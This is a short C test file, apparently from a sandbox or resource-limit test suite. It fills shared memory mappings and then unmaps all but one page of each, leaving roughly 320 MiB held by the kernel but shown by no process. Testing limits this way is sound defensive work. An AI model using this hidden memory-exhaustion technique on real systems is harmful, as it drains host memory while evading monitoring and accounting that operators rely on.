// threat: T5; ends: passed
// Fills shared mappings piece by piece and unmaps all but a page of each: the kernel keeps the memory, and no process shows it.
#include "attack.h"

int main(void) {
    const size_t piece = 16 << 20;
    const int zero = open("/dev/zero", O_RDWR);
    for (int i = 0; i < 20; i++) {
        char *memory = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        if (memory == MAP_FAILED) memory = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_SHARED, zero, 0);
        if (memory == MAP_FAILED) return end();
        memset(memory, 1, piece);
        munmap(memory + 4096, piece - 4096);
    }
    usleep(50000);
    attempt("320 MiB of memory that no process shows", 1);
    return end();
}
